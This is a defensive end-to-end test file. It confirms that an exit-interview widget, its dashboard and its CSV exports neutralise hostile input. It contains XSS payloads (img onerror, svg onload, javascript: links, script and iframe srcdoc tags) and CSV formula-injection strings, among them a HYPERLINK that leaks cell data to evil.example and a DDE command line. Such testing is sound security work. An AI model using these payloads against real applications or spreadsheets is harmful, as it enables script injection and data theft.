// Script injection through every path text takes: the employee's answers, the model's questions, HR
// attributes and the model's report all carry <img onerror>, <svg onload>, javascript: links and script
// tags, end to end through the real server. In real Chromium, on pages WITHOUT a Content-Security-Policy
// (so only the components' own escaping stands between the text and the page) and under the portal's
// strict CSP, the widget and the dashboard show it as text: no dialog, no script run, no element made.
// CSV exports neutralise formula cells.
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  createInterview,
  getJson,
  newMessageId,
  postMessage,
  waitForReport,
} from '../faults/support/client.ts';
import { type FakeOpenAI, startFakeOpenAI } from '../faults/support/fake-openai.ts';
import {
  baseDatabaseUrl,
  createScratchDatabase,
  type InProcessServer,
  type ScratchDatabase,
  type SuiteTenant,
  startInProcessServer,
} from '../faults/support/harness.ts';
import { runScenario } from '../faults/support/reliability.ts';
import { launchChromium, watchPage } from '../helpers/browser.ts';
import { startPortal, widgetMarkup } from '../helpers/portal.ts';
import { ensureWidgetBuilt, freePort } from '../helpers/server.ts';
import { bubbles, waitForTurn } from '../helpers/widget.ts';
import { type PlainPages, startPlainPages } from './support/plain-pages.ts';

const hostileAnswers = [
  `<img src=x onerror="window.__xss='answer-img'"> the pay was low`,
  `<svg onload="window.__xss='answer-svg'"></svg><svg><script>window.__xss='svg-script'</script></svg> no growth`,
  `<a href="javascript:window.__xss='answer-link'">click me</a> and [click](javascript:window.__xss='md-link') javascript:window.__xss='bare'`,
  `"><script>window.__xss='answer-script'</script><iframe srcdoc="<script>parent.__xss='iframe'</script>"></iframe> bad manager`,
];
const hostileQuestion = (n: number) =>
  `Thanks. <img src=x onerror="window.__xss='model-img'"><svg onload="window.__xss='model-svg'"></svg> <a href="javascript:window.__xss='model-link'">More</a> <script>window.__xss='model-script'</script> What made you leave? (${n})`;
const hostileDepartment = `<img src=x onerror="window.__xss='department'">`;
const formulas = [
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  "=cmd|' /C calc'!A0",
  '@SUM(1+1)',
  '+1+1',
  '-1+1',
];

/** Elements a successful injection would have made, searched through every shadow root. */
async function injectedElements(page: Page): Promise<string[]> {
  return page.evaluate(() => {
    const selector =
      'img[src="x"], [onerror], [onload], a[href^="javascript:" i], iframe[srcdoc], iframe:not([src]), script:not([src]), object, embed';
    const found: string[] = [];
    const walk = (root: Document | ShadowRoot) => {
      for (const element of root.querySelectorAll(selector)) found.push(element.outerHTML.slice(0, 120));
      for (const element of root.querySelectorAll('*')) if (element.shadowRoot) walk(element.shadowRoot);
    };
    walk(document);
    return found;
  });
}

/** Every text of the page, shadow roots included. */
async function deepText(page: Page): Promise<string> {
  return page.evaluate(() => {
    const parts: string[] = [];
    const walk = (root: Document | ShadowRoot) => {
      for (const element of root.querySelectorAll('*')) {
        if (element.shadowRoot) walk(element.shadowRoot);
        for (const node of element.childNodes)
          if (node.nodeType === Node.TEXT_NODE) parts.push(node.textContent ?? '');
      }
    };
    walk(document);
    return parts.join(' ');
  });
}

/** Splits a CSV document (RFC 4180 quoting) into rows of cells. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let index = 0; index < text.length; index += 1) {
    const char = text[index] as string;
    if (quoted) {
      if (char === '"' && text[index + 1] === '"') {
        cell += '"';
        index += 1;
      } else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"') quoted = true;
    else if (char === ',') {
      row.push(cell);
      cell = '';
    } else if (char === '\n' || char === '\r') {
      if (char === '\r' && text[index + 1] === '\n') index += 1;
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
    } else cell += char;
  }
  if (cell !== '' || row.length > 0) rows.push([...row, cell]);
  return rows;
}

describe.skipIf(!baseDatabaseUrl)('script injection end to end', () => {
  let database: ScratchDatabase;
  let server: InProcessServer;
  let fake: FakeOpenAI;
  let tenant: SuiteTenant;
  let browser: Browser;
  let strictPortalPort: number;
  /** Pages with no CSP header at all. */
  let plain: PlainPages;
  const interviewIds: string[] = [];

  beforeAll(async () => {
    await ensureWidgetBuilt();
    strictPortalPort = await freePort();
    plain = await startPlainPages();
    fake = await startFakeOpenAI({
      behavior: (call) =>
        call.stream
          ? { type: 'text', text: hostileQuestion(call.index) }
          : {
              type: 'object',
              content: {
                summary: `Summary ${hostileAnswers.join(' ')} ${formulas[0]}`,
                reasons: {
                  primary: { reason: 'compensation', confidence: 0.9, evidence: [hostileAnswers[0]] },
                  secondary: [],
                },
                topicSentiment: [],
                keyQuotes: hostileAnswers.map((text) => ({
                  text,
                  topicId: 'reason-for-leaving',
                  sentiment: 'negative',
                })),
                regrettableLoss: { likely: true, signals: [hostileAnswers[2], formulas[1]] },
                wouldReturn: 'unknown',
                wouldRecommend: 'unknown',
                suggestedActions: [...formulas, hostileAnswers[3]],
              },
            },
    });
    database = await createScratchDatabase('xss');
    server = await startInProcessServer({ database, fakeBaseURL: fake.baseURL });
    tenant = await server.createTenant('Alpha', {
      allowedOrigins: [plain.origin, `http://127.0.0.1:${strictPortalPort}`],
    });
    // Five finished interviews with a hostile department and hostile answers, reports written by the model.
    for (let index = 0; index < 5; index += 1) {
      const { id, token } = await createInterview(server.url, tenant.apiKey, {
        mode: 'identified',
        employee: {
          name: `<b onmouseover="window.__xss='name'">Sam ${index}</b>`,
          externalId: formulas[index % formulas.length],
        },
        attributes: {
          department: hostileDepartment,
          location: formulas[index % formulas.length],
          level: 'Senior',
        },
      });
      interviewIds.push(id);
      expect(
        (await postMessage(server.url, token, { clientMessageId: newMessageId(), type: 'start' })).status,
      ).toBe(200);
      for (const text of hostileAnswers) {
        expect(
          (await postMessage(server.url, token, { clientMessageId: newMessageId(), type: 'answer', text }))
            .status,
        ).toBe(200);
      }
      await postMessage(server.url, token, { clientMessageId: newMessageId(), type: 'finish' });
    }
    for (const id of interviewIds) {
      const report = await waitForReport(server.url, tenant.apiKey, id);
      expect(report.source).toBe('llm');
      expect(JSON.stringify(report.report)).toContain('onerror');
    }
    browser = await launchChromium();
  });

  afterAll(async () => {
    await browser?.close();
    await plain?.close();
    await server?.close();
    await fake?.close();
    await database?.drop();
  });

  /** Opens `html` as a page with no CSP; records dialogs. */
  async function openUnprotected(path: string, html: string): Promise<{ page: Page; dialogs: string[] }> {
    const context = await browser.newContext({ viewport: { width: 1280, height: 900 } });
    const page = await context.newPage();
    const dialogs: string[] = [];
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    await page.goto(plain.page(path, html));
    return { page, dialogs };
  }

  async function talkInWidget(page: Page): Promise<void> {
    const widget = page.locator('exit-interview');
    await widget.getByRole('button', { name: 'Start the interview' }).click();
    await waitForTurn(widget);
    const input = widget.getByRole('textbox', { name: 'Your answer' });
    for (const text of hostileAnswers) {
      await input.fill(text);
      await input.press('Enter');
      if ((await waitForTurn(widget)) === 'done') break;
    }
    // Give any injected handler (image errors, loads) time to fire.
    await page.waitForTimeout(300);
  }

  it('should keep hostile answers and hostile model questions inert in the widget, without and with a CSP', async () => {
    await runScenario(
      {
        id: 'xss-widget',
        group: 'xss',
        scenario: 'Markup in answers and model output, widget',
        tried:
          '<img onerror>, <svg onload>, <script>, <iframe srcdoc>, javascript: links (HTML, Markdown, bare) typed as answers, and the same in every question the model streams; <exit-interview> in Chromium on a page with no CSP, then under the strict portal CSP',
      },
      async (recorder) => {
        let pages = 0;
        // 1. No CSP at all: the widget's own rendering is the only wall.
        const { id, token } = await createInterview(server.url, tenant.apiKey, {
          attributes: { department: 'Sales' },
        });
        const open = await openUnprotected(
          '/interview',
          `<!doctype html><html><head><meta charset="utf-8"><script type="module" src="${server.url}/exitbot.js"></script></head><body>${widgetMarkup({ token, api: server.url })}</body></html>`,
        );
        pages += 1;
        await talkInWidget(open.page);
        const shown = (await bubbles(open.page.locator('exit-interview'))).join('\n');
        expect(shown).toContain(`onerror="window.__xss='model-img'"`);
        expect(shown).toContain(hostileAnswers[0]);
        expect(open.dialogs).toEqual([]);
        expect(
          await open.page.evaluate(() => (window as unknown as { __xss?: unknown }).__xss),
        ).toBeUndefined();
        expect(await injectedElements(open.page)).toEqual([]);
        expect(open.page.url()).toBe(`${plain.origin}/interview`);
        // Control: on this page the same markup inserted as HTML does run and is found, so the checks above can fail.
        await open.page.evaluate(
          (html) => document.body.insertAdjacentHTML('beforeend', html),
          hostileAnswers[0] as string,
        );
        await expect
          .poll(() => open.page.evaluate(() => (window as unknown as { __xss?: unknown }).__xss))
          .toBe('answer-img');
        expect(await injectedElements(open.page)).toHaveLength(1);
        await open.page.context().close();
        interviewIds.push(id);

        // 2. Under the strict portal CSP: still inert, and not a single violation (nothing even tried to run).
        const portal = await startPortal({ port: strictPortalPort, exitbotOrigin: server.url });
        try {
          const strict = await createInterview(server.url, tenant.apiKey, {
            attributes: { department: 'Sales' },
          });
          const url = portal.page(`/interview-${strict.id}`, {
            body: widgetMarkup({ token: strict.token, api: server.url }),
            scripts: [{ src: `${server.url}/exitbot.js`, module: true }],
          });
          const context = await browser.newContext();
          const page = await context.newPage();
          const problems = await watchPage(page);
          const dialogs: string[] = [];
          page.on('dialog', (dialog) => {
            dialogs.push(dialog.message());
            void dialog.dismiss();
          });
          await page.goto(url);
          pages += 1;
          await talkInWidget(page);
          expect(dialogs).toEqual([]);
          expect(await injectedElements(page)).toEqual([]);
          expect(problems.cspViolations).toEqual([]);
          expect(problems.pageErrors).toEqual([]);
          await context.close();
        } finally {
          await portal.close();
        }
        recorder.figures.pages = pages;
        recorder.figures.payloads = hostileAnswers.length * 2 + 2;
        recorder.figures.dialogs = 0;
        recorder.figures.elementsCreated = 0;
        recorder.figures.scriptsRun = 0;
        recorder.figures.modelCalls = fake.count();
        recorder.outcome =
          'shown as text on both pages: 0 dialogs, window.__xss never set, 0 img/svg/script/iframe/javascript: elements in the document or any shadow root, 0 CSP violations under the strict CSP';
      },
    );
  });

  it('should keep hostile departments, names, quotes and model reports inert in the dashboard', async () => {
    await runScenario(
      {
        id: 'xss-dashboard',
        group: 'xss',
        scenario: 'Markup in attributes and model reports, dashboard',
        tried:
          'a hostile department and employee name, hostile answers quoted by the model, a model report whose summary, signals and actions carry markup and formulas; <exit-insights> in Chromium on a page with no CSP; the report dialog opened',
      },
      async (recorder) => {
        const adminToken = tenant.adminToken;
        const { page, dialogs } = await openUnprotected(
          '/insights',
          `<!doctype html><html><head><meta charset="utf-8"><script type="module" src="${server.url}/insights.js"></script></head><body><exit-insights token="${adminToken}" api="${server.url}" lang="en"></exit-insights></body></html>`,
        );
        await page.locator('exit-insights h2', { hasText: 'Why people leave' }).waitFor({ timeout: 20_000 });
        const openReport = page
          .locator('exit-insights .interviews button', { hasText: 'Open report' })
          .first();
        await openReport.waitFor({ timeout: 20_000 });
        await openReport.click();
        const dialog = page.locator('exit-insights dialog');
        await dialog.locator('.summary').waitFor();
        expect(await dialog.locator('.summary').textContent()).toContain(
          `onerror="window.__xss='answer-img'"`,
        );
        await page.waitForTimeout(300);
        const text = await deepText(page);
        expect(text).toContain('<img src=x onerror=');
        expect(dialogs).toEqual([]);
        expect(await page.evaluate(() => (window as unknown as { __xss?: unknown }).__xss)).toBeUndefined();
        expect(await injectedElements(page)).toEqual([]);
        await page.context().close();
        recorder.figures.pages = 1;
        recorder.figures.dialogs = 0;
        recorder.figures.elementsCreated = 0;
        recorder.figures.scriptsRun = 0;
        recorder.outcome =
          'report summary, quotes and the interview list show the markup as text: 0 dialogs, no script run, 0 injected elements';
      },
    );
  });

  it('should neutralise formula cells in both CSV exports and serve them as attachments', async () => {
    await runScenario(
      {
        id: 'xss-csv',
        group: 'xss',
        scenario: 'Formulas and markup in CSV exports',
        tried: `locations and external ids ${formulas.map((formula) => JSON.stringify(formula)).join(', ')} and a hostile department; both CSV exports (interview list, figures) fetched with an admin token`,
      },
      async (recorder) => {
        let cells = 0;
        let neutralised = 0;
        for (const path of ['/v1/admin/insights/interviews.csv', '/v1/admin/insights/export.csv']) {
          const response = await fetch(`${server.url}${path}`, {
            headers: { Authorization: `Bearer ${tenant.adminToken}` },
          });
          expect(response.status, path).toBe(200);
          expect(response.headers.get('content-type')).toMatch(/^text\/csv/);
          expect(response.headers.get('x-content-type-options')).toBe('nosniff');
          expect(response.headers.get('content-disposition')).toMatch(/^attachment;/);
          const rows = parseCsv((await response.text()).replace(/^\uFEFF/, ''));
          for (const cell of rows.flat()) {
            cells += 1;
            expect.soft(cell, `${path}: ${cell}`).not.toMatch(/^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/);
            if (cell.startsWith("'")) neutralised += 1;
          }
        }
        const list = await (
          await fetch(`${server.url}/v1/admin/insights/interviews.csv`, {
            headers: { Authorization: `Bearer ${tenant.adminToken}` },
          })
        ).text();
        expect(list).toContain(hostileDepartment.replaceAll('"', '""'));
        expect(neutralised).toBeGreaterThan(0);
        const json = await getJson(`${server.url}/v1/admin/insights/interviews`, tenant.adminToken);
        expect(json.status).toBe(200);
        recorder.figures.cells = cells;
        recorder.figures.cellsNeutralised = neutralised;
        recorder.figures.formulaCellsLive = 0;
        recorder.outcome = `${cells} cells in 2 exports: 0 start with = + - @ tab or CR (or their full-width forms); ${neutralised} neutralised with a leading apostrophe; markup kept as plain text; text/csv, nosniff, attachment`;
      },
    );
  });
});
